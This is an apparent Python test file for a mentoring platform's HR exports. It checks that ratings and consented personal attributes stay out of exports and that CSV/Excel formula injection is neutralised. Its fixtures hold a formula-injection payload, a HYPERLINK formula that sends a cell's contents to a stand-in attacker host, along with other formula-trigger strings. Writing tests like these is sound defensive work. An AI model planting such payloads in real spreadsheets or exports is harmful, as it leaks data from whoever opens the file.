"""What HR's per-pair exports never carry (ratings, check-ins, anything from
consented attributes), and that no exported text is ever run as a formula."""

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
import time_machine
from django.urls import reverse

from engagement.health import health_of_matches
from engagement.tests.factories import add_meeting, make_match
from matching.models import Match
from matching.tests.factories import make_person
from networks.tests.factories import make_network
from people.tests.factories import answer
from programmes.tests.factories import make_programme
from reports.cells import csv_value
from sessions_log.models import Feedback
from surveys.models import PulseResponse

from .exported import body, csv_tables

NOW = datetime(2026, 6, 15, 9, 0, tzinfo=UTC)
# Self-descriptions (text that must never reach an export), options, and a network's name.
ANSWERS = {"gender_identity": "Genderfluid-7Q", "ethnic_group": "Ethnic-7Q"}
OPTIONS = {"disability": "Yes", "generation": "Generation X (1965-80)"}
NETWORK = "Network-7Q"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&E2,"Click")', "+1+2", "-3+4", "@SUM(1,2)", "\tTabbed",
            "\rReturned"]  # fmt: skip
LABEL = f"{FORMULAS[0]} · =1+1"  # the programme as the figures and the meeting log name it, with its cohort


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def download(client, user, kind, file_format) -> bytes:
    client.force_login(user)
    response = client.get(reverse("reports:export", args=[kind, file_format]))
    assert response.status_code == 200
    return body(response)


@pytest.fixture
def reverse_pairs(carol):
    """A reverse programme of 6 pairs whose people consented to their attributes; the
    pairs rate their meetings 1 of 5 and their check-ins 1, and meet on time."""
    programme = make_programme(carol, name="Reverse", kind="reverse", status="running", cadence="monthly")
    pairs, members = [], []
    for number in range(6):
        mentee, mentor = make_person(f"Senior {number}"), make_person(f"Junior {number}")
        for person in (mentee, mentor):
            for key, text in ANSWERS.items():
                answer(person, key, text=text)
            for key, label in OPTIONS.items():
                answer(person, key, label)
            members.append(person)
        pair = make_match(carol, mentee, mentor, programme=programme, created_at=NOW - timedelta(days=40))
        meeting = add_meeting(pair, NOW - timedelta(days=10))
        Feedback.objects.create(meeting=meeting, author=mentee, rating=1)
        Feedback.objects.create(meeting=meeting, author=mentor, rating=1)
        PulseResponse.objects.create(match=pair, author=mentee, due_on=(NOW - timedelta(days=5)).date(), rating=1,
                                     meeting_as_planned=True)  # fmt: skip
        pairs.append(pair)
    make_network(NETWORK, members=members)
    return pairs


@pytest.mark.parametrize("kind", ["matches", "meetings"])
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_per_pair_exports_carry_no_rating_and_nothing_from_consented_attributes(
    client, hana, reverse_pairs, kind, file_format
):
    content = download(client, hana, kind, file_format)
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        rows = [list(row) for row in openpyxl.load_workbook(io.BytesIO(content), read_only=True).active.values]
    header = [str(label).lower() for label in rows[0]]
    assert not [label for label in header if "rating" in label or "check-in" in label or "feedback" in label]
    cells = {str(value) for row in rows for value in row}
    for value in [*ANSWERS.values(), NETWORK]:
        assert value not in cells and not any(value in cell for cell in cells)
    assert not {"Yes", "Generation X (1965-80)"} & cells


def test_the_health_hr_sees_of_a_pair_does_not_move_with_its_ratings(client, hana, reverse_pairs):
    """The coordinators' health flags these pairs for their ratings of 1; HR's does not."""
    coordinators = health_of_matches(Match.objects.filter(pk__in=[pair.pk for pair in reverse_pairs]))
    assert {state.label for state in coordinators.values()} == {"Needs attention"}
    rows = list(csv.reader(io.StringIO(download(client, hana, "matches", "csv").decode("utf-8-sig"))))
    health = {row[rows[0].index("Mentee")]: row[rows[0].index("Health")] for row in rows[1:]}
    assert set(health.values()) == {"On track"}, health


# -- formula injection -----------------------------------------------------------


@pytest.fixture
def formula_names(carol):
    """Names that spreadsheets would run, in every place a name reaches an export: the
    programme and its cohort, a department of 6 people (so its name is shown), and people."""
    programme = make_programme(carol, name=FORMULAS[0], cohort="=1+1", status="running")
    for number in range(6):
        mentee = make_person(FORMULAS[number], department="=DEPT()+1")
        mentor = make_person(f"Mentor {number}", department="=DEPT()+1")
        pair = make_match(carol, mentee, mentor, programme=programme, created_at=NOW - timedelta(days=40))
        add_meeting(pair, NOW - timedelta(days=10))
    return programme


@pytest.mark.parametrize("kind", ["figures", "matches", "meetings"])
def test_names_that_look_like_formulas_read_back_from_csv_as_quoted_text(client, hana, formula_names, kind):
    tables = csv_tables(download(client, hana, kind, "csv"))
    cells = [value for rows in tables.values() for row in rows for value in row]
    assert not [value for value in cells if value[:1] in ("=", "+", "-", "@", "\t", "\r")], "a live formula"
    expected = {LABEL, "=1+1", "=DEPT()+1"} if kind == "figures" else {*FORMULAS}
    if kind == "meetings":
        expected.add(LABEL)
    for name in expected:
        assert "'" + name in cells, f"{name!r} is not in the {kind} export as quoted text"


@pytest.mark.parametrize("kind", ["figures", "matches", "meetings"])
def test_names_that_look_like_formulas_read_back_from_excel_as_text(client, hana, formula_names, kind):
    workbook = openpyxl.load_workbook(io.BytesIO(download(client, hana, kind, "xlsx")))  # not read-only: types
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    expected = {LABEL, "=DEPT()+1"} if kind == "figures" else {*FORMULAS}
    if kind == "meetings":
        expected.add(LABEL)
    for name in expected:
        assert name in texts, f"{name!r} is not a text cell of the {kind} export"


def test_the_one_rule_for_csv_cells():
    assert [csv_value(value) for value in ("=1", "+1", "-1", "@a", "\ta", "\ra", "a=1", None, -5, 2.5)] == [
        "'=1", "'+1", "'-1", "'@a", "'\ta", "'\ra", "a=1", "", -5, 2.5,
    ]  # fmt: skip
